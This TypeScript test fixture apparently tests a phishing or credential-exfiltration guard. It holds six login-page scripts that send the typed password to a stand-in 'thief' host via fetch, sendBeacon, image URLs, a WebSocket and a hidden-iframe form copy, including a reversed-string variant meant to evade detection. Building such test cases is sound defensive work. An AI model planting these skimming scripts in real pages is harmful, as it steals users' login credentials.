import { honestForm, loginForm, type PhishingCase, thief } from './phishing-case.ts'

const onSubmit = (send: string) => `form.addEventListener('submit', (event) => { ${send} })`

/** The right host runs a script that passes what is typed on to another. */
export const wrongScripts: PhishingCase[] = [
  {
    name: 'foreign-fetch',
    shows: 'A script sends the form to another host.',
    page: ({ at }) =>
      loginForm(
        'method="post" action="/login"',
        onSubmit(
          `event.preventDefault()
           fetch('${at(thief)}/collect', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(form)) })
             .catch(() => undefined)
             .then(() => { document.querySelector('h1').textContent = 'Wrong password. Log in' })`,
        ),
      ),
    ends: 'domain_not_allowed',
  },
  {
    name: 'beacon',
    shows: 'A beacon takes the password along while the form goes its right way.',
    page: ({ at }) =>
      honestForm(onSubmit(`navigator.sendBeacon('${at(thief)}/collect', password.value)`)),
    ends: 'SUCCESS',
  },
  {
    name: 'every-key',
    shows: 'Every change of the password goes to another host as the address of a picture.',
    page: ({ at }) =>
      honestForm(
        `password.addEventListener('input', () => { new Image().src = '${at(thief)}/collect?v=' + btoa(password.value) })`,
      ),
    ends: 'SUCCESS',
  },
  {
    name: 'every-key-hidden',
    shows: 'The same, written backwards, which no guard can know.',
    page: ({ at }) =>
      honestForm(
        `password.addEventListener('input', () => { new Image().src = '${at(thief)}/collect?v=' + [...password.value].reverse().join('') })`,
      ),
    ends: 'SUCCESS',
  },
  {
    name: 'socket',
    shows: 'A socket to another host takes the password.',
    page: ({ at }) =>
      honestForm(
        `const socket = new WebSocket('${at(thief).replace('https', 'wss')}/collect')
         password.addEventListener('input', () => socket.readyState === 1 && socket.send(password.value))`,
      ),
    ends: 'SUCCESS',
  },
  {
    name: 'hidden-copy',
    shows: 'A second form in a hidden frame sends the same elsewhere.',
    page: ({ at }) =>
      `<iframe name="hidden" hidden></iframe>${honestForm(
        onSubmit(
          `const copy = form.cloneNode(true)
           copy.action = '${at(thief)}/collect'
           copy.target = 'hidden'
           copy.elements.password.value = password.value
           document.body.append(copy)
           copy.submit()`,
        ),
      )}`,
    ends: 'domain_not_allowed',
  },
]
